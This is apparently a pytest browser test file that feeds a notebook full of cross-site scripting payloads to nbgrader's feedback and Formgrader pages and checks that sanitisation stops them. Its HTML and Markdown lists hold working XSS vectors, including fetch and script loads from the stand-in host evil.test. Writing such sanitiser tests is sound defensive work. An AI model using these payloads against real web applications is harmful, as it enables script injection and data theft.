"""Pages of notebooks that attack who reads them, opened in Chromium.

In the feedback page and in Formgrader's view: no script of the student's runs, no dialog opens,
nothing is requested, no link leads anywhere but to the web, and the text is still there. The
feedback page is also opened without its policy, so that cleaning alone has to hold.
"""

# ruff: noqa: E501  (an attack stands on one line, as it is written)
from __future__ import annotations

import base64
import json
from pathlib import Path

import nbgrader
import pytest
from nbconvert.exporters import HTMLExporter
from nbconvert.preprocessors import CSSHTMLHeaderPreprocessor
from nbformat import NotebookNode, from_dict
from nbformat.v4 import (
    new_code_cell,
    new_markdown_cell,
    new_notebook,
    new_output,
    new_raw_cell,
)
from traitlets.config import Config

from examiner.course.intake_settings import intake_settings
from examiner.feedback import CleanFeedback
from examiner.page import POLICY, OfflineHTMLExporter

FORMGRADER = Path(nbgrader.__file__).parent / "server_extensions" / "formgrader"
RUN = "window.hacked=(window.hacked||0)+1;alert(1);fetch('http://evil.test/x')"
CODED = "&#119;indow.hacked=1&semi;alert&lpar;1)"
BASE = base64.b64encode(f"<script>{RUN}</script>".encode()).decode()
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'
SVG_BASE = base64.b64encode(SVG.encode()).decode()

HTML = [
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "<script src=//evil.test/x.js></script>",
    f'<img src=x onerror="{RUN}">',
    f"<img/src=x/onerror={CODED}>",
    '<img src="http://evil.test/a.png" srcset="http://evil.test/b.png 2x" alt="p">',
    f'<svg onload="{RUN}"></svg>',
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    f'<svg><set attributeName=href to="javascript:{RUN}" onbegin="{RUN}"></svg>',
    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>svglink</text></a></svg>',
    f'<svg><use href="data:image/svg+xml;base64,{SVG_BASE}#x"></use></svg>',
    '<svg><use xlink:href="http://evil.test/x.svg#x"></use><image href="http://evil.test/i.png"/></svg>',
    "<svg><foreignObject><iframe srcdoc='<script>parent.hacked=1</script>'></iframe></foreignObject></svg>",
    '<svg><style>@import "http://evil.test/x.css";</style><rect fill="url(http://evil.test/f.svg#a)" filter="url(http://evil.test/g.svg#a)"/></svg>',
    f"<svg><title><img src=x onerror={CODED}></title><desc>&lt;img src=x onerror={CODED}&gt;</desc></svg>",
    f"<svg></p><style><a title='</style><img src=x onerror={CODED}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={CODED}&gt;'>",
    f'<math href="javascript:{RUN}"><mi>clickme</mi></math>',
    f"<noscript><p title='</noscript><img src=x onerror={CODED}>'></noscript>",
    f"<template><img src=x onerror={CODED}></template>",
    f"<xmp><p title='</xmp><img src=x onerror={CODED}>'></xmp>",
    f"<textarea><p title='</textarea><img src=x onerror={CODED}>'></textarea>",
    f'<iframe src="data:text/html;base64,{BASE}"></iframe>',
    '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
    f'<object data="data:text/html;base64,{BASE}"></object><embed src="http://evil.test/e.swf">',
    '<form action="http://evil.test/"><input name=a autofocus onfocus="alert(1)"><button>go</button></form>',
    f'<details open ontoggle="{RUN}"><summary>more</summary>inside</details>',
    f'<input autofocus onfocus="{RUN}"><select autofocus onfocus="{RUN}"></select>',
    f'<marquee onstart="{RUN}">m</marquee><video src=x onerror="{RUN}"></video><audio src=x onerror="{RUN}"></audio>',
    f'<body onload="{RUN}"><p tabindex=1 onfocus="{RUN}" autofocus>p</p>',
    '<meta http-equiv="refresh" content="0;url=http://evil.test/">',
    '<base href="http://evil.test/"><a href="/x">relative</a>',
    '<link rel=stylesheet href="http://evil.test/x.css"><link rel=prefetch href="http://evil.test/y">',
    "<style>@import url(http://evil.test/x.css); body{background:url(http://evil.test/b)}</style>",
    '<p style="background:url(http://evil.test/s)">styled</p>',
    '<p style="background:u\\72l(http://evil.test/s);color:red">styled</p>',
    "<p style='background:&amp;#117;rl(http://evil.test/s)'>styled</p>",
    "<p style=\"background-image:image-set('http://evil.test/s' 1x);width:expression(alert(1))\">x</p>",
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">over</p>',
    '<table background="http://evil.test/t"><tr><td background="http://evil.test/u">cell</td></tr></table>',
    '<div id="test_f" class="nbgrader_cell strides-summary">fake</div><img name=body id=getElementById>',
    *(
        f'<a href="{address}">link</a>'
        for address in (
            f"javascript:{RUN}",
            f"JaVaScRiPt:{RUN}",
            f" \x01java\tscr\nipt:{RUN}",
            f"&#106;avascript&colon;{RUN}",
            f"&#x6A&#x61vascript:{RUN}",
            f"&amp;#106;avascript:{RUN}",
            f"vbscript:{RUN}",
            f"data:text/html;base64,{BASE}",
            f"data:image/svg+xml;base64,{SVG_BASE}",
            f"blob:http://evil.test/{RUN}",
            "file:///etc/passwd",
            "//evil.test/",
            "../../formgrader/api/x",
        )
    ),
]
MARKDOWN = [
    *HTML,
    f"[a](javascript:{RUN.replace(' ', '')})",
    f"[a](<javascript:{RUN}>)",
    "[a](&#106;avascript:alert(1))",
    "[a](JAVASCRIPT&colon;alert(1))",
    "[a][r]\n\n[r]: javascript:alert(1)",
    f"[a](data:text/html;base64,{BASE})",
    "<javascript:alert(1)>",
    "![a](http://evil.test/m.png)",
    '![a](x" onerror="alert(1))',
    '![a](x "t" onerror=alert(1))',
    "![a](attachment:a.svg) ![b](attachment:b.html)",
    "```python\n</code></pre><script>alert(1)</script>\n```",
    '```mermaid\n<img src=x onerror="alert(1)">\n```',
    '```"><img src=x onerror=alert(1)>\nx\n```',
    "$\\href{javascript:alert(1)}{click}$ $\\text{<img src=x onerror=alert(1)>}$",
    "$$</script><script>alert(1)</script>$$",
    "\\begin{a}<img src=x onerror=alert(1)>\\end{a}",
    '<a title="$x$" href="#">t</a> ![$\\text{" onerror="alert(1)}$](data:image/png;base64,AA==)',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "# head <img src=x onerror=alert(1)>",
    "|<img src=x onerror=alert(1)>|b|\n|-|-|\n|<svg onload=alert(1)>|c|",
]
WIDGET_STATE = {
    "application/vnd.jupyter.widget-state+json": {
        "version_major": 2,
        "version_minor": 0,
        "state": {"1": {"model_name": "HTMLModel", "state": {"value": f"</script><script>{RUN}"}}},
    }
}


def hostile_notebook() -> NotebookNode:
    """Every attack in an output, in Markdown, in a traceback, in metadata."""
    cells = [
        new_markdown_cell(f"attack {i}\n\n{text}\n\nstill {i}") for i, text in enumerate(MARKDOWN)
    ]
    for cell in cells:
        cell["attachments"] = {
            "a.svg": {"image/svg+xml": SVG_BASE},
            "b.html": {"text/html": BASE, f'x" onerror="{RUN}': BASE},
        }
        cell.metadata = from_dict(
            {"tags": [f'"><img src=x onerror={CODED}>'], "alt": f'" onerror="{RUN}'}
        )
    for text in HTML:
        for kind in ("text/html", "text/markdown", "image/svg+xml", "text/latex", "text/plain"):
            cells.append(
                new_code_cell(f"# {text}", outputs=[new_output("display_data", {kind: text})])
            )
    ansi = f"\x1b]8;;javascript:{RUN}\x07link\x1b]8;;\x07 <script>{RUN}</script>"
    odd = new_output("display_data", {"image/png": f'x" onerror="{RUN}', "text/plain": "odd"})
    odd.metadata = from_dict(
        {
            "image/png": {"width": f'1 onerror="{RUN}"', "alt": f'" onerror="{RUN}'},
            "filenames": {"image/png": f'x" onerror="{RUN}'},
            "text/html": {"isolated": True},
        }
    )
    isolated = new_output("display_data", {"text/html": f"<script>{RUN}</script>isolated text"})
    isolated.metadata = from_dict({"text/html": {"isolated": True}})
    view = {
        "application/vnd.jupyter.widget-view+json": {"model_id": f"</script><script>{RUN}"},
        "application/javascript": RUN,
        "text/plain": "widget text",
    }
    outputs = [
        new_output("stream", name="stdout", text=ansi + " stream text"),
        new_output(
            "error",
            ename=f"<script>{RUN}</script>",
            evalue=ansi,
            traceback=[ansi, f"Cell In[1] {ansi}"],
        ),
        odd,
        isolated,
        new_output("execute_result", view),
    ]
    cell = new_code_cell(f"</pre><script>{RUN}</script> # code text", outputs=outputs)
    cell.metadata = from_dict(
        {
            "magics_language": f'"><img src=x onerror={CODED}>',
            "transient": {"remove_source": True},
            "strides_html": True,
        }
    )
    own = new_markdown_cell(f"<script>{RUN}</script>own html", metadata={"strides_html": True})
    raws = [new_raw_cell(f"raw {text}", metadata={"raw_mimetype": "text/html"}) for text in HTML]
    lexer = f'"><img src=x onerror={CODED}>'
    metadata = {
        "title": f"</title><script>{RUN}</script>",
        "widgets": WIDGET_STATE,
        "language_info": {"name": lexer, "pygments_lexer": lexer},
        "authors": [{"name": f"<script>{RUN}</script>"}],
    }
    return new_notebook(
        cells=[*cells, *raws, cell, own], metadata=from_dict(json.loads(json.dumps(metadata)))
    )


def feedback_page() -> str:
    """The page as nbgrader's GenerateFeedback makes it."""
    config = Config()
    config.HTMLExporter.template_name = "feedback"
    config.HTMLExporter.extra_template_basedirs = [str(FORMGRADER / "templates")]
    styles = FORMGRADER / "static" / "node_modules" / "bootstrap" / "dist" / "css"
    config.HTMLExporter.extra_template_paths = [str(styles)]
    exporter = OfflineHTMLExporter(config=config)
    for step in (CSSHTMLHeaderPreprocessor, CleanFeedback):
        exporter.register_preprocessor(step, enabled=True)
    about = {"notebook": "t1", "score": 0, "max_score": 1, "late_penalty": 0}
    page, _ = exporter.from_notebook_node(hostile_notebook(), {"nbgrader": about})
    return page


def formgrader_page(config: Config) -> str:
    """The page as Formgrader's handler makes it."""
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [str(FORMGRADER / "templates")]
    names = ("assignment_id", "notebook_id", "submission_id", "student", "last_name", "first_name")
    about = {
        **dict.fromkeys(names, "x"),
        "index": 0,
        "total": 1,
        "base_url": "/own",
        "notebook_path": "x",
    }
    page, _ = HTMLExporter(config=config).from_notebook_node(hostile_notebook(), about)
    return page


def without_own_scripts(page: str) -> str:
    """Formgrader's page without the scripts that it loads from its own server."""
    head, mark, body = page.partition("</head>")
    return f"<html><head><meta charset=utf-8></head>{body}" if mark else head


@pytest.fixture(scope="module")
def pages() -> dict[str, str]:
    feedback = feedback_page()
    assert POLICY in feedback
    formgrader = formgrader_page(intake_settings())
    return {
        "feedback": feedback,
        "feedback without its policy": feedback.replace(POLICY, ""),
        "formgrader": without_own_scripts(formgrader),
    }


@pytest.mark.browser
@pytest.mark.parametrize("name", ["feedback", "feedback without its policy", "formgrader"])
def test_nothing_of_the_students_runs(chromium, pages, name):
    context = chromium.new_context()
    page = context.new_page()
    dialogs: list[str] = []
    requests: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: requests.append(request.url))
    page.set_content(pages[name], wait_until="load")
    page.evaluate(
        "document.querySelectorAll('body *').forEach(e => { e.focus && e.focus(); "
        "['mouseover', 'toggle', 'pointerenter'].forEach(t => e.dispatchEvent(new Event(t))) })"
    )
    page.evaluate("new Promise(done => requestAnimationFrame(() => requestAnimationFrame(done)))")
    assert page.evaluate("window.hacked") is None
    assert dialogs == []
    assert [url for url in requests if not url.startswith("data:image/")] == []
    links = page.evaluate(
        "[...document.querySelectorAll('#notebook [href]')].map(e => e.getAttribute('href'))"
    )
    own = ("http://", "https://", "mailto:", "#")
    assert [link for link in links if link and not link.startswith(own)] == []
    tags = page.evaluate(
        "[...new Set([...document.querySelectorAll('#notebook *')].map(e => e.tagName.toLowerCase()))]"
    )
    forbidden = {
        "script",
        "iframe",
        "object",
        "embed",
        "form",
        "base",
        "meta",
        "link",
        "style",
        "use",
        "foreignobject",
    }
    assert forbidden.isdisjoint(tags)
    handlers = page.evaluate(
        "[...document.querySelectorAll('#notebook *')].flatMap(e => [...e.attributes])"
        ".map(a => a.name).filter(n => n.startsWith('on'))"
    )
    assert handlers == []
    assert page.locator("#test_f").count() == 0
    text = page.inner_text("body")
    for index in range(len(MARKDOWN)):
        assert f"attack {index}" in text
        assert f"still {index}" in text
    for words in ("stream text", "isolated text", "widget text", "code text", "own html", "inside"):
        assert words in text, words
    context.close()


@pytest.mark.browser
def test_the_attacks_are_real(chromium):
    """With nbgrader's own settings, the same notebook runs scripts and calls its server."""
    context = chromium.new_context()
    page = context.new_page()
    requests: list[str] = []
    page.on("dialog", lambda dialog: dialog.dismiss())
    page.on("request", lambda request: requests.append(request.url))
    page.set_content(without_own_scripts(formgrader_page(Config())), wait_until="commit")
    page.wait_for_event("request", lambda request: "evil.test" in request.url)
    assert any("evil.test" in url for url in requests)
    context.close()
